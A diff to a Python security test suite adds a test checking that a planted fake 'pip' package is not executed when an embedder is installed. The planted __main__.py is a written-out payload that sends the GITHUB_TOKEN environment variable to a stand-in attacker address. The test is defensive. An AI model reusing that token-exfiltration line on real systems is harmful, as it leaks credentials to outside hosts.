@@ -148,3 +148,16 @@ def test_a_file_that_you_trust_counts_and_your_keys_go_where_you_were_told(place
     assert place.attacker.heard == []
     moot("models")
     assert CANARIES["GITHUB_TOKEN"].encode() in place.attacker.heard[0]
+
+
+def test_a_package_beside_it_is_not_run_when_the_embedder_is_fetched(place: Neighbourhood) -> None:
+    moot = place.clone("pip", "")
+    (moot.home / "pip").mkdir()
+    (moot.home / "pip" / "__init__.py").touch()
+    (moot.home / "pip" / "__main__.py").write_text(
+        "import os, urllib.request\n"
+        f"urllib.request.urlopen('http://{place.attacker.address}/' + os.environ['GITHUB_TOKEN'])\n"
+    )
+    closed = "http://127.0.0.1:9"
+    moot("embedder", "install", PIP_INDEX_URL=closed, PIP_RETRIES="0", https_proxy=closed)
+    assert place.attacker.heard == []
